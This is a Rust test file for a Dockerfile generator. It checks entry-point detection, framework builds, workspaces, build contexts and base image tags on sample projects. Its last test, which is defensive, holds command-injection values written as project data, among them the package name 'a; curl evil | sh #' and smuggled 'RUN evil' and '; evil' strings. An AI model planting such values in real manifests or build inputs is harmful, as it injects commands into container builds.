//! `generate_dockerfile` on the shapes of real projects: what starts, from where it is built, and what is asked.

// What is missing in a test is its failure.
#![allow(clippy::expect_used, clippy::panic, clippy::unwrap_used)]

mod front_door;

use architect_container::tool::generate_dockerfile::{Input, Output};
use front_door::*;

/// The last instruction's words, or the questions that must be answered first.
fn start(output: &Output) -> String {
    let Some(dockerfile) = &output.dockerfile else {
        let open = output.questions.iter().filter(|question| question.assumed.is_none());
        return format!("? {}", open.map(|question| question.name.as_str()).collect::<Vec<_>>().join(" "));
    };
    let last = dockerfile.lines().last().unwrap_or_default();
    let list = last.trim_start_matches("CMD ").trim_start_matches("ENTRYPOINT ");
    serde_json::from_str::<Vec<String>>(list).expect("exec form").join(" ")
}

#[test]
fn a_start_script_is_followed_to_the_program_that_it_starts() {
    let server = ("server.js", "app.listen(process.env.PORT || 3000)\n");
    for (manifest, more, expected) in [
        (r#"{"scripts": {"start": "npm run serve", "serve": "node server.js"}}"#, server, "node server.js"),
        (
            r#"{"scripts": {"start": "npm run build && node dist/server.js", "build": "tsc"}}"#,
            server,
            "node dist/server.js",
        ),
        (
            r#"{"scripts": {"prestart": "npm run build", "start": "node dist/a.js", "build": "tsc"}}"#,
            server,
            "node dist/a.js",
        ),
        (r#"{"scripts": {"start": "npm run migrate && node server.js", "migrate": "knex up"}}"#, server, "? start"),
        (r#"{"scripts": {"start": "NODE_ENV=production A='b c' node server.js"}}"#, server, "node server.js"),
        (r#"{"scripts": {"start": "pm2 start server.js"}}"#, server, "node server.js"),
        (
            r#"{"scripts": {"start": "pm2 start eco.json --no-daemon"}}"#,
            ("eco.json", r#"{"apps": [{"script": "src/index.js"}]}"#),
            "node src/index.js",
        ),
        (r#"{"scripts": {"start": "nodemon server.js"}}"#, server, "? start"),
        (r#"{"scripts": {"start": "nodemon"}}"#, ("Procfile", "web: node build/app.js\n"), "node build/app.js"),
        (r#"{"scripts": {"start": "tsx src/a.ts"}, "devDependencies": {"tsx": "4"}}"#, server, "? start"),
        (
            r#"{"scripts": {"start": "tsx src/a.ts"}, "dependencies": {"tsx": "4"}}"#,
            server,
            "node_modules/.bin/tsx src/a.ts",
        ),
        (r#"{"main": "index.js"}"#, ("src/index.js", "app.listen(3000)\n"), "node src/index.js"),
        (r#"{"main": "src/app.ts", "scripts": {"build": "tsc"}}"#, ("src/app.ts", ""), "? start"),
        (
            r#"{"scripts": {"start": "run-s build serve", "build": "tsc", "serve": "node server.js"}}"#,
            server,
            "node server.js",
        ),
        (r#"{"scripts": {"start": "npm run a", "a": "npm run start"}}"#, ("x.js", ""), "? start"),
        (
            r"{}",
            ("Dockerfile", "FROM node:24 AS a\nRUN x\nFROM node:24\nCMD [\"node\", \"lib/x.js\"]\n"),
            "node lib/x.js",
        ),
    ] {
        let output = generate(&[("package.json", manifest), ("package-lock.json", "{}"), more]);

        assert_eq!(start(&output), expected, "{manifest}");
    }
}

#[test]
fn a_framework_starts_what_its_build_makes_and_a_static_site_is_no_service() {
    for (dependencies, scripts, more, expected) in [
        (r#""nuxt": "4""#, r#""build": "nuxt build""#, ("a", ""), "node .output/server/index.mjs"),
        (
            r#""@sveltejs/kit": "2", "@sveltejs/adapter-node": "5""#,
            r#""build": "vite build", "preview": "vite preview""#,
            ("a", ""),
            "node build/index.js",
        ),
        (r#""@sveltejs/kit": "2""#, r#""build": "vite build""#, ("a", ""), "? start"),
        (
            r#""astro": "5", "@astrojs/node": "9""#,
            r#""build": "astro build", "start": "astro dev""#,
            ("astro.config.mjs", "adapter: node({ mode: 'standalone' })\n"),
            "node dist/server/entry.mjs",
        ),
        (r#""astro": "5""#, r#""build": "astro build", "start": "astro dev""#, ("a", ""), "? start"),
        (
            r#""@remix-run/serve": "2""#,
            r#""build": "remix build", "start": "remix-serve build""#,
            ("a", ""),
            "node_modules/.bin/remix-serve build",
        ),
        (
            r#""next": "16""#,
            r#""build": "next build", "start": "next start -p 4000""#,
            ("a", ""),
            "node node_modules/next/dist/bin/next start -p 4000",
        ),
        (
            r#""next": "16""#,
            r#""build": "next build", "start": "node server.js""#,
            ("server.js", ""),
            "node server.js",
        ),
        (r#""vite": "7""#, r#""build": "vite build", "preview": "vite preview""#, ("a", ""), "? start"),
        (
            r#""react-scripts": "5""#,
            r#""start": "react-scripts start", "build": "react-scripts build""#,
            ("a", ""),
            "? start",
        ),
    ] {
        let manifest = format!(r#"{{"scripts": {{{scripts}}}, "dependencies": {{{dependencies}}}}}"#);

        let output = generate(&[("package.json", &manifest), ("package-lock.json", "{}"), more]);

        assert_eq!(start(&output), expected, "{manifest}");
    }
}

#[test]
fn what_next_runs_before_its_start_is_told_and_its_port_is_taken_from_the_script() {
    let manifest = r#"{"scripts": {"build": "next build", "start": "npm run migrate && next start -p 4000", "migrate": "prisma migrate deploy"}, "dependencies": {"next": "16"}}"#;

    let output = generate(&[("package.json", manifest), ("package-lock.json", "{}")]);

    assert!(
        output
            .questions
            .iter()
            .any(|question| question.name == "start" && question.question.contains("prisma migrate"))
    );
    assert_eq!(decision(&output, "port"), "4000");
}

#[test]
fn an_application_of_python_is_found_where_it_is_made_and_imported_from() {
    const FASTAPI: &str = "from fastapi import FastAPI\napp = FastAPI()\n";
    const FACTORY: &str =
        "from flask import Flask\ndef create_app(config=None):\n    app = Flask(__name__)\n    return app\n";
    type Files<'a> = &'a [(&'a str, &'a str)];
    for (files, expected) in [
        (
            &[("app/__init__.py", FACTORY), ("shop.py", "from app import create_app\napp = create_app()\n")]
                as Files<'_>,
            "shop:app",
        ),
        (&[("app/__init__.py", FACTORY)], "app:create_app()"),
        (
            &[
                ("app.py", FACTORY),
                ("Procfile", "web: flask db upgrade; gunicorn wsgi:application -b 0.0.0.0:$PORT\n"),
            ],
            "wsgi:application",
        ),
        (&[("src/shop/__init__.py", ""), ("src/shop/main.py", FASTAPI)], "shop.main:app"),
        (&[("src/main.py", FASTAPI)], "src.main:app"),
        (&[("src/main.py", &format!("import models\n{FASTAPI}")), ("src/models.py", "")], "main:app"),
        (
            &[
                ("src/py/shop/__init__.py", ""),
                ("src/py/shop/asgi.py", "def create_app():\n    return Litestar([])\n"),
            ],
            "shop.asgi:create_app",
        ),
        (
            &[
                ("api/app/main.py", "from app.db import x\nfrom fastapi import FastAPI\napp = FastAPI()\n"),
                ("api/app/__init__.py", ""),
            ],
            "app.main:app",
        ),
        (
            &[
                ("pyproject.toml", "[project]\nname = \"a\"\n[tool.fastapi]\nentrypoint = \"a.web:api\"\n"),
                ("a/web.py", "api = FastAPI()\n"),
                ("a/main.py", FASTAPI),
            ],
            "a.web:api",
        ),
        (
            &[
                (".flaskenv", "FLASK_APP=run.py\n"),
                ("run.py", "from app import create_app\napp = create_app()\n"),
                ("app.py", FACTORY),
            ],
            "run:app",
        ),
    ] {
        let mut all = vec![("requirements.txt", "fastapi==1\nflask==1\ngunicorn==1\nuvicorn==1\nlitestar==1\n")];
        all.extend_from_slice(files);

        let output = generate(&all);

        assert!(start(&output).contains(expected), "{expected}: {}", start(&output));
    }
}

#[test]
fn a_package_of_a_uv_workspace_is_installed_with_what_it_needs_of_it() {
    let files = [
        ("pyproject.toml", "[project]\nname = \"root\"\n[tool.uv.workspace]\nmembers = [\"services/*\"]\n"),
        ("uv.lock", "version = 1\n"),
        (
            "services/api/pyproject.toml",
            "[project]\nname = \"shop-api\"\nrequires-python = \">=3.12,<3.14\"\ndependencies = [\"fastapi\", \"uvicorn\"]\n",
        ),
        ("services/api/app/__init__.py", ""),
        ("services/api/app/main.py", "app = FastAPI()\n"),
        ("services/core/pyproject.toml", "[project]\nname = \"core\"\n"),
    ];

    let only = generate(&files);
    let by_path = call(&files, at("services/api")).expect("a package of the workspace");

    assert_eq!(only.dockerfile, by_path.dockerfile);
    assert_eq!(decision(&only, "runtime_version"), "3.13");
    insta::assert_snapshot!(text(&only));
}

#[test]
fn pdm_installs_from_its_lockfile() {
    let output = generate(&[
        (
            "pyproject.toml",
            "[project]\nname = \"a\"\nrequires-python = \">=3.11\"\ndependencies = [\"fastapi\", \"uvicorn\"]\n",
        ),
        ("pdm.lock", ""),
        ("src/main.py", "app = FastAPI()\n"),
    ]);

    assert!(text(&output).contains("pdm sync --prod --no-self"), "{}", text(&output));
}

#[test]
fn a_module_that_takes_others_from_beside_it_is_built_from_the_folder_that_holds_them() {
    let main = "package main\n\nfunc main() {\n\thttp.ListenAndServe(\":8080\", nil)\n}\n";
    let replaced = [
        ("internal/common/go.mod", "module x/common\n\ngo 1.26\n"),
        ("internal/api/go.mod", "module x/api\n\ngo 1.26\n\nreplace x/common => ../common/\n"),
        ("internal/api/go.sum", ""),
        ("internal/api/main.go", main),
    ];
    let workspace = [
        ("go.work", "go 1.26\n\nuse (\n\t./common\n\t./api\n)\n"),
        ("common/go.mod", "module x/common\n\ngo 1.26\n"),
        ("api/go.mod", "module x/api\n\ngo 1.26\n"),
        ("api/go.sum", ""),
        ("api/main.go", main),
    ];

    let of_replaced = call(&replaced, at("internal/api")).expect("a module");
    let of_workspace = generate(&workspace);

    assert!(text(&of_replaced).contains("WORKDIR /src/api"), "{}", text(&of_replaced));
    assert_eq!(decision(&of_replaced, "context"), "internal");
    assert!(text(&of_workspace).contains("WORKDIR /src/api"), "{}", text(&of_workspace));
    assert_eq!(start(&call(&replaced[1..], at("internal/api")).expect("a module")), "/usr/local/bin/api");
}

#[test]
fn what_lies_outside_of_the_folder_is_a_question() {
    let cargo = "[package]\nname = \"a\"\n[dependencies]\nb = { path = \"../../b\" }\n";
    for files in [
        &[("Cargo.toml", cargo), ("Cargo.lock", ""), ("src/main.rs", "fn main() {}\n")] as &[(&str, &str)],
        &[("go.mod", "module a\n\ngo 1.26\n\nreplace b => ../b\n"), ("main.go", "package main\nfunc main() {\n}\n")],
        &[
            ("package.json", r#"{"scripts": {"start": "node a.js"}, "dependencies": {"b": "file:../b"}}"#),
            ("a.js", ""),
        ],
        &[("requirements.txt", "-e ../b\nfastapi==1\n"), ("main.py", "app = FastAPI()\n")],
    ] {
        assert_eq!(start(&generate(files)), "? context");
    }
}

#[test]
fn a_module_of_maven_is_built_from_its_parent_even_when_a_profile_packages_it() {
    let parent = "<project><parent><groupId>org.springframework.boot</groupId><artifactId>spring-boot-starter-parent</artifactId><version>3.5.0</version></parent><artifactId>shop</artifactId><version>1</version><packaging>pom</packaging><properties><java.version>17</java.version></properties><modules><module>api</module><module>lib</module></modules><profiles><profile><build><plugins><plugin><artifactId>spring-boot-maven-plugin</artifactId></plugin></plugins></build></profile></profiles></project>";
    let module = |name: &str| {
        format!("<project><parent><artifactId>shop</artifactId></parent><artifactId>{name}</artifactId></project>")
    };
    let (api, lib) = (module("api"), module("lib"));
    let files = [
        ("pom.xml", parent),
        ("api/pom.xml", &api),
        ("api/src/main/java/App.java", "@SpringBootApplication\nclass App {}\n"),
        ("lib/pom.xml", &lib),
        ("lib/src/main/java/Lib.java", "class Lib {}\n"),
    ];

    let output = call(&files, at("api")).expect("a module");

    assert_eq!(decision(&output, "runtime_version"), "17");
    assert!(text(&output).contains("-pl api -am"), "{}", text(&output));
}

#[test]
fn a_health_path_that_may_lie_below_a_prefix_is_asked_for() {
    let manifest = r#"{"scripts": {"start": "node server.js"}, "dependencies": {"express": "5"}}"#;
    let files = |router: &'static str| {
        vec![
            ("package.json", manifest),
            ("package-lock.json", "{}"),
            ("server.js", "app.use('/api/v1', router)\napp.listen(process.env.PORT || 3000)\n"),
            ("routes.js", router),
        ]
    };

    let below = generate(&files("router.get('/health', h)\n"));
    let top = generate(&files("app.get('/health', h)\n"));

    assert!(questions(&below).contains(&"health_path"));
    assert_eq!(decision(&top, "health_path"), "/health");
}

#[test]
fn a_workspace_keeps_tokens_out_and_finds_what_is_hoisted() {
    let output = call(
        &[
            ("package.json", r#"{"name": "r", "workspaces": ["apps/*"]}"#),
            ("package-lock.json", "{}"),
            (".npmrc", "//registry.example/:_authToken=${NPM_TOKEN}\n"),
            (
                "apps/web/package.json",
                r#"{"name": "web", "scripts": {"build": "next build", "start": "next start"}, "dependencies": {"next": "16", "@prisma/client": "6"}}"#,
            ),
            ("apps/web/prisma/schema.prisma", ""),
        ],
        at("apps/web"),
    )
    .expect("a package");

    insta::assert_snapshot!(text(&output));
}

#[test]
fn the_root_of_a_workspace_can_be_the_service() {
    let files = [
        (
            "package.json",
            r#"{"name": "site", "scripts": {"build": "nuxt build", "start": "node .output/server/index.mjs"}, "dependencies": {"nuxt": "4"}}"#,
        ),
        ("pnpm-workspace.yaml", "packages:\n  - proxy\n"),
        ("pnpm-lock.yaml", "lockfileVersion: '9.0'\n"),
        ("proxy/package.json", r#"{"name": "proxy", "scripts": {"start": "node server.js"}}"#),
        ("proxy/server.js", ""),
    ];

    let open = generate(&files);
    let root = call(&files, service(".")).expect("the root");

    assert_eq!(open.questions[0].choices, [".", "proxy"]);
    assert_eq!(start(&root), "node .output/server/index.mjs");
}

#[test]
fn an_old_release_keeps_the_system_that_it_was_last_built_on() {
    for (version, expected) in
        [("16", "NODE_TAG=16-bookworm-slim"), ("18", "NODE_TAG=18-bookworm-slim"), ("22", "NODE_TAG=22-trixie-slim")]
    {
        let manifest = format!(r#"{{"engines": {{"node": "{version}.x"}}, "scripts": {{"start": "node a.js"}}}}"#);

        let output = generate_unchecked(&[("package.json", &manifest), ("package-lock.json", "{}"), ("a.js", "")]);

        assert!(text(&output).contains(expected), "{}", text(&output));
    }
}

#[test]
fn no_name_of_a_projects_files_becomes_a_command() {
    let hostile = "a; curl evil | sh #";
    let cargo = format!("[package]\nname = \"{hostile}\"\n");
    let manifest = r#"{"name": "a\"\nRUN evil", "packageManager": "pnpm@1; evil", "scripts": {"start": "A=$(evil) node server.js"}}"#;

    let rust = call(&[("Cargo.toml", &cargo), ("Cargo.lock", ""), ("src/main.rs", "")], at(".")).expect_err("a name");
    let node = generate_unchecked(&[("package.json", manifest), ("pnpm-lock.yaml", ""), ("server.js", "")]);
    let version = call(
        &[("package.json", "{}"), ("package-lock.json", "{}"), ("server.js", "")],
        Input { runtime_version: Some("24; evil".to_owned()), ..at(".") },
    )
    .expect_err("a version");

    assert!(rust.to_string().contains("cannot stand in a command"), "{rust}");
    assert!(!text(&node).contains("; evil") && !text(&node).contains("\nRUN evil"), "{}", text(&node));
    assert!(version.to_string().contains("24; evil"), "{version}");
}
